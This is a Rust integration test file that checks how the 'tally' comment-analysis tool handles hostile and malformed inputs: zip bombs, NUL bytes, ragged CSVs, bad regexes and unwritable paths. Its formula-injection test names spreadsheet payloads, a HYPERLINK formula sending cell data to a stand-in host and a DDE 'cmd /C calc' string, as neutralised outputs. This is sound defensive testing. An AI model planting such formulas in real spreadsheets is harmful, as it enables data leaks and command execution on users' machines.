//! Hostile and awkward inputs (issue 8).
//!
//! Every case runs `tally run` under a 2 GiB address-space cap and must end
//! either in exit 0 with every item read accounted for in `accounting.json`
//! (`items_read = comments + noise + blank + events_total + rejected`, and
//! `comments.csv` holding exactly the comments and noise), or in exit 1 with
//! a message naming the file and the problem — never a panic, an abort or a
//! signal, and never an output folder or temp folder left behind.
//! `errors.rs` checks the wording of table-source errors without a cap; the
//! cases here add the cap, the accounting, the other source kinds, and the
//! formula-injection guarantees of every output.

use std::io::Read as _;
use std::path::Path;
use std::process::Command;

use calamine::Reader as _;
use serde_json::Value;

use crate::util::{TestEnv, csv_rows, repo};

/// The address-space cap (KiB) every run here is under.
const MEM_CAP_KB: u64 = 2 * 1024 * 1024;
/// The CPU-time cap (seconds): a hang becomes a signal, which fails the test.
const CPU_CAP_S: u64 = 300;

const TAX: &str = "name = \"t\"\n[noise]\nphrases = [\"thanks\"]\n[[themes]]\nid = \"funding\"\nlabel = \"Funding\"\nphrases = [\"money\", \"cost*\", \"afford\"]\n[[themes]]\nid = \"training\"\nlabel = \"Training\"\nphrases = [\"training\", \"advice\"]\n";

/// A project with one table source.
fn table(path: &str, extra: &str) -> String {
    format!(
        "taxonomy = \"tax.toml\"\n[[sources]]\nname = \"s\"\nkind = \"table\"\npath = \"{path}\"\ntext = \"Comment\"\n{extra}"
    )
}

/// A project with one chat source.
fn chat(path: &str, extra: &str) -> String {
    format!(
        "taxonomy = \"tax.toml\"\n[[sources]]\nname = \"c\"\nkind = \"chat\"\npath = \"{path}\"\nfacilitators = [\"Commissioning Team\"]\n{extra}"
    )
}

/// A table-source env: the fixture `rel` plus the taxonomy and project.
fn table_env(rel: &str, extra: &str) -> TestEnv {
    let name = Path::new(rel).file_name().and_then(|n| n.to_str()).expect("name").to_owned();
    TestEnv::new().fixture(rel).write("tax.toml", TAX).write("p.toml", table(&name, extra))
}

/// How a run ended, once the contract common to both ends has been checked.
enum End {
    /// Exit 0: the accounting (already checked to balance).
    Ok(Value),
    /// Exit 1: the message.
    Failed(String),
}

/// Runs tally in `dir` under the memory and CPU caps.
fn capped(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new("sh")
        .arg("-c")
        .arg(format!("ulimit -v {MEM_CAP_KB} && ulimit -t {CPU_CAP_S} && exec \"$0\" \"$@\""))
        .arg(env!("CARGO_BIN_EXE_tally"))
        .args(args)
        .current_dir(dir)
        .env_remove("RUST_BACKTRACE")
        .output()
        .expect("run tally under sh")
}

/// Runs `tally run p.toml --out out` capped and checks what every outcome owes.
#[track_caller]
fn outcome(env: &TestEnv) -> End {
    outcome_with(env, "out")
}

#[track_caller]
fn outcome_with(env: &TestEnv, out_dir: &str) -> End {
    let out = capped(env.path(), &["run", "p.toml", "--out", out_dir, "--quiet"]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    let code = out.status.code();
    assert!(code.is_some(), "killed by a signal (memory or CPU cap?): {:?}\n{stderr}", out.status);
    for bad in ["panicked", "memory allocation", "RUST_BACKTRACE", "overflow"] {
        assert!(!stderr.contains(bad), "{bad:?} on stderr:\n{stderr}");
    }
    assert_no_temp_folders(env.path());
    match code {
        Some(0) => End::Ok(accounted(&env.join(out_dir))),
        Some(1) => {
            assert!(!env.join(out_dir).exists(), "no output folder after a failure:\n{stderr}");
            assert!(stderr.starts_with("tally: "), "one prefixed message:\n{stderr}");
            End::Failed(stderr)
        }
        other => panic!("exit {other:?}, want 0 or 1:\n{stderr}"),
    }
}

fn assert_no_temp_folders(dir: &Path) {
    let left: Vec<_> = std::fs::read_dir(dir)
        .expect("ls")
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".tally-"))
        .collect();
    assert!(left.is_empty(), "temp folders left: {left:?}");
}

/// Exit 1 whose message has every one of `parts`.
#[track_caller]
fn fails(env: &TestEnv, parts: &[&str]) -> String {
    match outcome(env) {
        End::Failed(msg) => {
            for p in parts {
                assert!(msg.contains(p), "message lacks {p:?}: {msg}");
            }
            msg
        }
        End::Ok(acc) => panic!("want exit 1, got exit 0: {acc:#}"),
    }
}

/// Exit 0; the (balanced) accounting.
#[track_caller]
fn succeeds(env: &TestEnv) -> Value {
    match outcome(env) {
        End::Ok(acc) => acc,
        End::Failed(msg) => panic!("want exit 0, got: {msg}"),
    }
}

fn n(v: &Value) -> usize {
    usize::try_from(v.as_u64().unwrap_or_else(|| panic!("not a count: {v}"))).expect("fits")
}

/// Reads `out/accounting.json` and checks, per source and in total, that
/// every item read is in exactly one bucket and that `comments.csv` holds
/// exactly the comments and noise.
#[track_caller]
fn accounted(out: &Path) -> Value {
    let text = std::fs::read_to_string(out.join("accounting.json")).expect("accounting.json");
    let acc: Value = serde_json::from_str(&text).expect("accounting.json is JSON");
    let rows = csv_rows(&out.join("comments.csv"));
    let mut totals = [0usize; 6];
    for s in acc["sources"].as_array().expect("sources") {
        let name = s["source"].as_str().expect("source name");
        let (read, comments, noise, blank) =
            (n(&s["items_read"]), n(&s["comments"]), n(&s["noise"]), n(&s["blank"]));
        let events = n(&s["events_total"]);
        let rejected = s["rejected"].as_array().expect("rejected").len();
        assert_eq!(read, comments + noise + blank + events + rejected, "{name} does not balance: {s:#}");
        assert_eq!(n(&s["tagged"]) + n(&s["untagged"]), comments, "{name}: tagged + untagged");
        let event_sum: usize = s["events"].as_object().expect("events").values().map(n).sum();
        assert_eq!(event_sum, events, "{name}: events_total");
        let listed = rows[1..].iter().filter(|r| r[1] == name).count();
        assert_eq!(listed, comments + noise, "{name}: comments.csv rows");
        for (t, v) in totals.iter_mut().zip([read, comments, noise, blank, events, rejected]) {
            *t += v;
        }
    }
    let t = &acc["totals"];
    let want = [
        n(&t["items_read"]),
        n(&t["comments"]),
        n(&t["noise"]),
        n(&t["blank"]),
        n(&t["events"]),
        n(&t["rejected"]),
    ];
    assert_eq!(totals, want, "totals are the sum of the sources");
    acc
}

/// The first source's (items_read, comments, blank, rejected).
fn counts(acc: &Value) -> (usize, usize, usize, usize) {
    let s = &acc["sources"][0];
    (
        n(&s["items_read"]),
        n(&s["comments"]) + n(&s["noise"]),
        n(&s["blank"]),
        s["rejected"].as_array().map_or(0, Vec::len),
    )
}

/// 4,096 bytes of the fixture that is random bytes.
fn random_bytes() -> Vec<u8> {
    std::fs::read(repo().join("fixtures/bad/random.xlsx")).expect("random.xlsx")
}

// ---- table sources: text files -------------------------------------------

#[test]
fn empty_file_is_an_error() {
    fails(&table_env("bad/empty.csv", ""), &["empty.csv", "empty"]);
}

#[test]
fn file_of_blank_lines_is_empty() {
    let env = TestEnv::new()
        .write("tax.toml", TAX)
        .write("p.toml", table("b.csv", ""))
        .write("b.csv", "\r\n \r\n\n");
    fails(&env, &["b.csv", "empty"]);
}

#[test]
fn header_only_is_zero_comments() {
    let acc = succeeds(&table_env("bad/header-only.csv", ""));
    assert_eq!(counts(&acc), (0, 0, 0, 0));
}

#[test]
fn missing_text_column_among_several() {
    let env = table_env("formats/comments.utf8.csv", "").write(
        "p.toml",
        "taxonomy = \"tax.toml\"\n[[sources]]\nname = \"s\"\nkind = \"table\"\npath = \"comments.utf8.csv\"\ntext = [\"Comment\", \"Other comments\"]\n",
    );
    fails(&env, &["comments.utf8.csv", "no column \"Other comments\"", "\"Comment\""]);
}

#[test]
fn ragged_rows_are_rejected_with_reasons() {
    let env = table_env("bad/ragged.csv", "");
    let acc = succeeds(&env);
    assert_eq!(counts(&acc), (5, 2, 0, 3));
    let reasons: Vec<String> = acc["sources"][0]["rejected"]
        .as_array()
        .expect("rejected")
        .iter()
        .map(|r| format!("{}: {}", r["at"].as_str().unwrap_or(""), r["reason"].as_str().unwrap_or("")))
        .collect();
    assert_eq!(
        reasons,
        [
            "line 3: only 3 fields; the text column \"Comment\" is field 4",
            "line 4: only 1 fields; the text column \"Comment\" is field 4",
            "line 5: 6 fields, but the header has 4",
        ]
    );
}

#[test]
fn unterminated_quote_is_an_error_naming_the_line() {
    fails(
        &table_env("bad/unterminated-quote.csv", ""),
        &["unterminated-quote.csv", "line 3", "never closed"],
    );
}

#[test]
fn nul_bytes_are_read_and_never_written() {
    let env = table_env("bad/nul-bytes.csv", "[sources.columns]\nid = \"Ref\"\n");
    let acc = succeeds(&env);
    assert_eq!(counts(&acc), (3, 3, 0, 0));
    let rows = csv_rows(&env.join("out/comments.csv"));
    let texts: Vec<&str> = rows[1..].iter().map(|r| r[12].as_str()).collect();
    assert_eq!(texts, ["Exclusions up", "Consistency across districts", "Cost to schools"]);
    for f in ["comments.csv", "report.md", "report.html", "theme_shares.csv"] {
        let bytes = std::fs::read(env.join("out").join(f)).expect("output");
        assert!(!bytes.contains(&0), "NUL byte in {f}");
    }
}

#[test]
fn five_megabyte_cell_is_one_comment() {
    let cell = "the money runs out, ".repeat(5 * 1024 * 1024 / 20);
    let csv = format!("Ref,Comment\r\n1,\"{cell}\"\r\n2,short one\r\n");
    let env = TestEnv::new()
        .write("tax.toml", TAX)
        .write("p.toml", table("big.csv", "[sources.columns]\nid = \"Ref\"\n"))
        .write("big.csv", csv);
    let acc = succeeds(&env);
    assert_eq!(counts(&acc), (2, 2, 0, 0));
    let rows = csv_rows(&env.join("out/comments.csv"));
    assert_eq!(rows[1][12], cell.trim_end(), "the whole cell, unchanged");
    assert_eq!((rows[1][10].as_str(), rows[2][12].as_str()), ("funding", "short one"));
}

#[test]
fn multi_line_cells_stay_one_comment() {
    // Ref 7 has two Alt+Enter breaks (bare LF inside a quoted field of a CRLF
    // file), Ref 23 one.
    let env = table_env("formats/comments.utf8bom.csv", "[sources.columns]\nid = \"Ref\"\n");
    let acc = succeeds(&env);
    assert_eq!(counts(&acc), (30, 29, 1, 0));
    let rows = csv_rows(&env.join("out/comments.csv"));
    let text = |id: &str| rows.iter().find(|r| r[0] == id).map(|r| r[12].clone()).expect("id");
    assert_eq!(text("7"), "More exclusions\nLower attendance\nMore specialist placements");
    assert_eq!(text("23").lines().count(), 2);
}

/// `expected.csv`'s (Ref, Comment) for non-blank comments, as `comments.csv`
/// writes them (Ref 20 starts with "- ", so it gets the OWASP `'`).
fn expected_comments() -> Vec<(String, String)> {
    csv_rows(&repo().join("fixtures/formats/expected.csv"))[1..]
        .iter()
        .filter(|r| !r[3].is_empty())
        .map(|r| (r[0].clone(), if r[3].starts_with('-') { format!("'{}", r[3]) } else { r[3].clone() }))
        .collect()
}

#[test]
fn bom_cp1252_and_utf16_are_decoded() {
    let want = expected_comments();
    for (file, format) in [
        ("comments.utf8bom.csv", "comma-separated utf-8 (bom)"),
        ("comments.cp1252.csv", "comma-separated windows-1252"),
        ("comments.utf16.tsv", "tab-separated utf-16le"),
    ] {
        // `id = "Ref"`: with a BOM left on, the first header would be "\u{feff}Ref" and not match.
        let env = table_env(&format!("formats/{file}"), "[sources.columns]\nid = \"Ref\"\n");
        let acc = succeeds(&env);
        assert_eq!(acc["sources"][0]["format"], format, "{file}");
        let rows = csv_rows(&env.join("out/comments.csv"));
        let got: Vec<(String, String)> = rows[1..].iter().map(|r| (r[0].clone(), r[12].clone())).collect();
        assert_eq!(got, want, "{file}");
        let all: String = got.iter().map(|(_, t)| t.as_str()).collect();
        for c in ['£', '‘', '’', '“', '”', '–', '…'] {
            assert!(all.contains(c), "{file}: {c} decoded");
        }
    }
}

// ---- table sources: spreadsheets -------------------------------------------

#[test]
fn random_bytes_named_xlsx_is_an_error() {
    fails(&table_env("bad/random.xlsx", ""), &["random.xlsx", "cannot read spreadsheet"]);
}

#[test]
fn random_bytes_under_every_table_extension() {
    for ext in ["xlsx", "xlsm", "xlsb", "xls", "ods", "csv", "tsv", "txt"] {
        let file = format!("noise.{ext}");
        let env = TestEnv::new()
            .write("tax.toml", TAX)
            .write("p.toml", table(&file, ""))
            .write(&file, random_bytes());
        // Either way is fine as long as the contract holds; a text file of
        // noise has no "Comment" header, so it is an error too.
        fails(&env, &[&file]);
    }
}

#[test]
fn truncated_xlsx_is_an_error() {
    fails(&table_env("bad/truncated.xlsx", ""), &["truncated.xlsx", "cannot read spreadsheet"]);
}

#[test]
fn huge_dimension_xlsx_is_read_sparsely_under_the_cap() {
    let acc = succeeds(&table_env("bad/huge-dimension.xlsx", ""));
    assert_eq!(counts(&acc), (3, 2, 0, 1));
}

#[test]
fn zip_bomb_is_refused_under_the_cap() {
    let started = std::time::Instant::now();
    fails(&table_env("bad/zip-bomb.xlsx", ""), &["zip-bomb.xlsx", "too large", "zip bomb"]);
    assert!(started.elapsed().as_secs() < 60, "refused before inflating: {:?}", started.elapsed());
}

// ---- chat sources -----------------------------------------------------------

#[test]
fn random_bytes_as_a_chat_is_an_error() {
    let env = TestEnv::new()
        .fixture("bad/random-chat.txt")
        .write("tax.toml", TAX)
        .write("p.toml", chat("random-chat.txt", ""));
    fails(&env, &["random-chat.txt", "no chat message found"]);
}

#[test]
fn empty_chat_is_an_error() {
    let env = TestEnv::new().write("tax.toml", TAX).write("p.toml", chat("c.txt", "")).write("c.txt", "");
    fails(&env, &["c.txt", "empty"]);
}

#[test]
fn random_bytes_as_a_register_is_an_error_naming_the_register() {
    let env = TestEnv::new()
        .fixture("chat/schools-zoom-c.txt")
        .write("tax.toml", TAX)
        .write("p.toml", chat("schools-zoom-c.txt", "register = \"reg.xlsx\"\n"))
        .write("reg.xlsx", random_bytes());
    fails(&env, &["reg.xlsx", "cannot read spreadsheet"]);
}

#[test]
fn unterminated_quote_in_a_register_names_the_register() {
    let env = TestEnv::new()
        .fixture("chat/schools-zoom-c.txt")
        .fixture("bad/unterminated-quote.csv")
        .write("tax.toml", TAX)
        .write("p.toml", chat("schools-zoom-c.txt", "register = \"unterminated-quote.csv\"\n"));
    fails(&env, &["unterminated-quote.csv", "line 3"]);
}

#[test]
fn chat_with_text_before_the_first_message_rejects_it() {
    let text = "Meeting notes - pasted by hand\n\n[10:32 AM] Ann Smith: the money is the worry\n[10:33 AM] Commissioning Team: Option 2, risks?\n[10:34 AM] Bob Jones: training will go\n";
    let env = TestEnv::new().write("tax.toml", TAX).write("p.toml", chat("c.txt", "")).write("c.txt", text);
    let acc = succeeds(&env);
    assert_eq!(counts(&acc), (4, 2, 0, 1));
    assert_eq!(acc["sources"][0]["rejected"][0]["at"], "line 1");
}

// ---- project and taxonomy files ------------------------------------------

#[test]
fn project_file_that_is_not_utf8_is_an_error() {
    let env = TestEnv::new().write("tax.toml", TAX).write("p.toml", b"title = \"Budget \xA3\"\n".as_slice());
    fails(&env, &["p.toml"]);
}

#[test]
fn invalid_toml_in_project_and_taxonomy() {
    let env = TestEnv::new().write("tax.toml", TAX).write("p.toml", "taxonomy = \"tax.toml\"\n[[sources]\n");
    fails(&env, &["p.toml", "line 2"]);
    let env = TestEnv::new()
        .fixture("formats/comments.utf8.csv")
        .write("tax.toml", "name = \"t\"\n[[themes]]\nid = \"x\"\nlabel = \"X\"\nphrases = [\"a\"\n")
        .write("p.toml", table("comments.utf8.csv", ""));
    fails(&env, &["tax.toml", "line"]);
}

/// A taxonomy with a second theme `bad` holding `rule` under `key`.
fn bad_rule_env(key: &str, rule: &str) -> TestEnv {
    let tax = format!("{TAX}[[themes]]\nid = \"bad\"\nlabel = \"Bad\"\n{key} = ['{rule}']\n");
    TestEnv::new()
        .fixture("formats/comments.utf8.csv")
        .write("tax.toml", tax)
        .write("p.toml", table("comments.utf8.csv", ""))
}

#[test]
fn bad_query_names_the_theme_and_rule() {
    let msg = fails(
        &bad_rule_env("query", "\"pay for\"~2 AND ("),
        &["tax.toml", "theme \"bad\"", "query", "pay for"],
    );
    assert!(!msg.contains("theme \"funding\""), "{msg}");
}

#[test]
fn bad_regex_names_the_theme_and_rule() {
    fails(&bad_rule_env("regex", "£(\\d+"), &["tax.toml", "theme \"bad\"", "regex", "£(\\\\d+"]);
}

#[test]
fn regex_past_the_size_limit_is_an_error_not_an_allocation() {
    fails(&bad_rule_env("regex", "(\\w{100}){100}{100}"), &["tax.toml", "theme \"bad\"", "regex"]);
}

// ---- paths ------------------------------------------------------------------

#[test]
fn missing_paths_of_every_kind() {
    let cases = [
        ("table", table("nope.csv", ""), "nope.csv"),
        ("chat", chat("nope.txt", ""), "nope.txt"),
        (
            "survey",
            "taxonomy = \"tax.toml\"\n[[sources]]\nname = \"v\"\nkind = \"survey\"\npath = \"nope.xlsx\"\n"
                .into(),
            "nope.xlsx",
        ),
        ("register", chat("schools-zoom-c.txt", "register = \"nope-register.csv\"\n"), "nope-register.csv"),
        ("taxonomy", table("comments.utf8.csv", "").replace("tax.toml", "nope.toml"), "nope.toml"),
    ];
    for (what, project, missing) in cases {
        let env = TestEnv::new()
            .fixture("chat/schools-zoom-c.txt")
            .fixture("formats/comments.utf8.csv")
            .write("tax.toml", TAX)
            .write("p.toml", project);
        let msg = fails(&env, &[missing]);
        assert!(msg.contains("No such file") || msg.contains("not found"), "{what}: {msg}");
    }
    let msg = match outcome_missing_project() {
        End::Failed(m) => m,
        End::Ok(_) => panic!("a missing project file must fail"),
    };
    assert!(msg.contains("p.toml"), "{msg}");
}

fn outcome_missing_project() -> End {
    let env = TestEnv::new();
    outcome(&env)
}

#[test]
fn directory_where_a_file_is_expected() {
    let cases = [
        ("chat", chat("dir.txt", "")),
        (
            "survey",
            "taxonomy = \"tax.toml\"\n[[sources]]\nname = \"v\"\nkind = \"survey\"\npath = \"dir.txt\"\n"
                .into(),
        ),
        ("register", chat("schools-zoom-c.txt", "register = \"dir.txt\"\n")),
        ("taxonomy", table("comments.utf8.csv", "").replace("tax.toml", "dir.txt")),
    ];
    for (what, project) in cases {
        let env = TestEnv::new()
            .fixture("chat/schools-zoom-c.txt")
            .fixture("formats/comments.utf8.csv")
            .write("tax.toml", TAX)
            .write("p.toml", project)
            .write("dir.txt/inside", "x");
        let msg = fails(&env, &["dir.txt"]);
        assert!(msg.contains("directory"), "{what}: {msg}");
    }
    // The project file itself.
    let env = TestEnv::new().write("p.toml/inside", "x");
    fails(&env, &["p.toml", "directory"]);
}

#[test]
fn messages_do_not_repeat_the_cause() {
    let env = TestEnv::new().write("tax.toml", TAX).write("p.toml", table("nope.csv", ""));
    let msg = fails(&env, &["nope.csv"]);
    assert_eq!(msg.matches("No such file").count(), 1, "{msg}");
}

// ---- the output folder -----------------------------------------------------

fn good_env() -> TestEnv {
    table_env("formats/comments.utf8.csv", "")
}

#[test]
fn output_under_a_file_is_an_error() {
    let env = good_env().write("afile", "x");
    match outcome_with(&env, "afile/out") {
        End::Failed(msg) => assert!(msg.contains("afile"), "{msg}"),
        End::Ok(_) => panic!("cannot write under a file"),
    }
    assert_eq!(env.read("afile"), "x");
}

#[test]
fn output_that_is_an_existing_file_is_not_replaced() {
    let env = good_env().write("out", "precious");
    let out = capped(env.path(), &["run", "p.toml", "--out", "out", "--quiet"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("not a tally output folder"));
    assert_eq!(env.read("out"), "precious");
    assert_no_temp_folders(env.path());
}

#[test]
fn output_in_a_read_only_folder_is_an_error() {
    use std::os::unix::fs::PermissionsExt as _;
    let env = good_env().write("ro/.keep", "");
    std::fs::set_permissions(env.join("ro"), std::fs::Permissions::from_mode(0o555)).expect("chmod");
    // root ignores permissions: then use a folder nobody can create.
    let writable = std::fs::write(env.join("ro/probe"), "").is_ok();
    let target = if writable { "/proc/tally-hostile/out".to_owned() } else { "ro/out".to_owned() };
    match outcome_with(&env, &target) {
        End::Failed(msg) => assert!(msg.contains(target.trim_end_matches("/out")), "{msg}"),
        End::Ok(_) => panic!("{target} cannot be written"),
    }
    let left: Vec<_> = std::fs::read_dir(env.join("ro"))
        .expect("ls")
        .filter_map(Result::ok)
        .map(|e| e.file_name())
        .collect();
    assert!(left.iter().all(|n| n == ".keep" || n == "probe"), "nothing written: {left:?}");
    std::fs::set_permissions(env.join("ro"), std::fs::Permissions::from_mode(0o755)).expect("chmod back");
}

// ---- formula injection -----------------------------------------------------

const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell that a spreadsheet would read as a number.
fn is_number(cell: &str) -> bool {
    !cell.is_empty() && cell.parse::<f64>().is_ok_and(f64::is_finite) && !cell.contains(['e', 'E', 'i', 'n'])
}

#[test]
fn formula_injection_is_neutralised_in_every_csv_and_xlsx() {
    let env = table_env(
        "bad/formula-injection.csv",
        "[sources.columns]\noption = \"Option\"\nquestion = \"Question\"\nid = \"Ref\"\n[sources.set]\nstakeholder = \"@team\"\n",
    );
    let acc = succeeds(&env);
    assert_eq!(counts(&acc), (8, 8, 0, 0));
    let out = env.join("out");
    let rows = csv_rows(&out.join("comments.csv"));
    let text: Vec<&str> = rows[1..].iter().map(|r| r[12].as_str()).collect();
    assert_eq!(
        text,
        [
            "'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"click\")",
            "'+44 1622 000000 call me about LIFT",
            "'-5% exclusions since STLS started",
            "'@SENCo forum says training is great",
            "Tab-first cost to schools",
            "CR-first inclusion worry",
            "'=1+2\";=1+2",
            "formula in a dimension column",
        ]
    );
    assert_eq!(rows[8][2], "'=cmd|' /C calc'!A0", "dimension cells too");
    assert!(rows[1..].iter().all(|r| r[3] == "'@team"), "values set in the project too");
    let mut csvs = 0;
    for entry in std::fs::read_dir(&out).expect("ls out") {
        let path = entry.expect("entry").path();
        if path.extension().is_some_and(|e| e == "csv") {
            csvs += 1;
            for (i, row) in csv_rows(&path).iter().enumerate() {
                for cell in row {
                    let live = cell.starts_with(FORMULA_START) && !is_number(cell);
                    assert!(!live, "{}: row {i}: live cell {cell:?}", path.display());
                }
            }
        }
    }
    assert!(csvs >= 6, "every CSV checked ({csvs})");
    // Numbers are untouched.
    let shares = csv_rows(&out.join("theme_shares.csv"));
    assert!(
        shares[1..].iter().all(|r| r[4].parse::<u32>().is_ok() && r[6].parse::<f64>().is_ok()),
        "{shares:?}"
    );

    // report.xlsx: no formula anywhere, user text only as strings.
    let xlsx = out.join("report.xlsx");
    let mut zip = zip::ZipArchive::new(std::fs::File::open(&xlsx).expect("open")).expect("zip");
    let sheets: Vec<String> = zip
        .file_names()
        .map(|n| n.expect("entry name").into_owned())
        .filter(|n| n.starts_with("xl/worksheets/sheet"))
        .collect();
    assert!(!sheets.is_empty());
    for name in &sheets {
        let mut xml = String::new();
        zip.by_name(name).expect("entry").read_to_string(&mut xml).expect("utf-8 xml");
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{name} has a formula");
    }
    let mut wb: calamine::Xlsx<_> = calamine::open_workbook(&xlsx).expect("calamine opens report.xlsx");
    let mut seen_hyperlink = false;
    for name in wb.sheet_names() {
        let formulas = wb.worksheet_formula(&name).expect("formulas");
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "{name}: formula cells");
        let range = wb.worksheet_range(&name).expect("range");
        for (_, _, cell) in range.used_cells() {
            if let calamine::Data::String(s) = cell {
                assert!(!s.starts_with(FORMULA_START) || is_number(s), "{name}: {s:?}");
                seen_hyperlink |= s.contains("HYPERLINK(");
            }
        }
    }
    assert!(seen_hyperlink, "the hostile comment is in the workbook, as a string");
}

#[test]
fn negative_numbers_are_not_prefixed() {
    let survey = "ID,Role,Score,Comments\n1,-SENCo,-2,=1+1 but cheaper\n2,Head,+1,fine\n3,Head,-0.5,\n";
    let project = "taxonomy = \"tax.toml\"\n[[sources]]\nname = \"v\"\nkind = \"survey\"\npath = \"v.csv\"\n[sources.columns]\nrole = \"Role\"\n[[sources.questions]]\ncolumn = \"Score\"\ntype = \"rating\"\n[[sources.questions]]\ncolumn = \"Comments\"\ntype = \"text\"\n";
    let env = TestEnv::new().write("tax.toml", TAX).write("p.toml", project).write("v.csv", survey);
    succeeds(&env);
    let rows = csv_rows(&env.join("out/survey.csv"));
    let answers: Vec<&str> = rows[1..].iter().filter(|r| r[2].is_empty()).map(|r| r[4].as_str()).collect();
    assert!(answers.contains(&"-2") && answers.contains(&"-0.5"), "numbers as written: {answers:?}");
    assert!(answers.iter().all(|a| !a.starts_with('\'')), "{answers:?}");
    assert!(rows[1..].iter().any(|r| r[3] == "'-SENCo"), "text still neutralised: {rows:?}");
    let comments = csv_rows(&env.join("out/comments.csv"));
    assert_eq!(comments[1][12], "'=1+1 but cheaper");
}

// ---- the accounting invariant, every source kind ------------------------------

#[test]
fn accounting_balances_for_every_source_kind() {
    let project = r#"
taxonomy = "taxonomy.toml"

[[sources]]
name = "notes"
kind = "table"
path = "comments.xlsx"
text = "Comment"
[sources.columns]
option = "Option"
question = "Question"

[[sources]]
name = "ragged"
kind = "table"
path = "ragged.csv"
text = ["Comment", "Question"]

[[sources]]
name = "schools"
kind = "chat"
path = "schools-zoom-c.txt"
facilitators = ["Commissioning Team"]
register = "schools-register.xlsx"

[[sources]]
name = "parents"
kind = "chat"
path = "parents-teams-classic.txt"
facilitators = ["Commissioning Team"]
register = "parents-register.csv"
attendance = "parents-attendance.csv"

[[sources]]
name = "teams-new"
kind = "chat"
path = "schools-teams-new.txt"
facilitators = ["Commissioning Team"]

[[sources]]
name = "impact"
kind = "survey"
path = "impact-survey.xlsx"
[sources.columns]
phase = "Which type of setting do you work in?"
[[sources.questions]]
column = "How would you rate the support you received?"
type = "rating"
[[sources.questions]]
column = "What difference has the service made?"
type = "text"
[[sources.questions]]
column = "Any other comments?"
type = "text"
"#;
    let env = [
        "formats/comments.xlsx",
        "bad/ragged.csv",
        "chat/schools-zoom-c.txt",
        "chat/schools-register.xlsx",
        "chat/parents-teams-classic.txt",
        "chat/parents-register.csv",
        "chat/parents-attendance.csv",
        "chat/schools-teams-new.txt",
        "chat/taxonomy.toml",
        "survey/impact-survey.xlsx",
    ]
    .iter()
    .fold(TestEnv::new(), |env, f| env.fixture(f))
    .write("p.toml", project);
    let acc = succeeds(&env);
    let by_kind = |kind: &str| -> Vec<&Value> {
        acc["sources"].as_array().expect("sources").iter().filter(|s| s["kind"] == kind).collect()
    };
    assert_eq!((by_kind("table").len(), by_kind("chat").len(), by_kind("survey").len()), (2, 3, 1));
    // Each kind exercises buckets beyond comments, so the balance means something.
    let ragged = &acc["sources"][1];
    assert_eq!((n(&ragged["items_read"]), ragged["rejected"].as_array().map(Vec::len)), (10, Some(5)));
    for s in by_kind("chat") {
        assert!(n(&s["events_total"]) > 0 && n(&s["comments"]) > 0, "{s:#}");
    }
    let survey = by_kind("survey")[0];
    assert!(n(&survey["blank"]) > 0 && n(&survey["comments"]) > 0, "{survey:#}");
    assert_eq!(n(&survey["items_read"]), 2 * n(&survey["rows_read"]), "two text columns per row");
}

#[test]
fn accounting_balances_in_the_demo() {
    let env = TestEnv::new();
    let out = capped(env.path(), &["demo", "--out", "out"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let acc = accounted(&env.join("out"));
    assert!(acc["sources"].as_array().is_some_and(|s| s.len() >= 2));
}
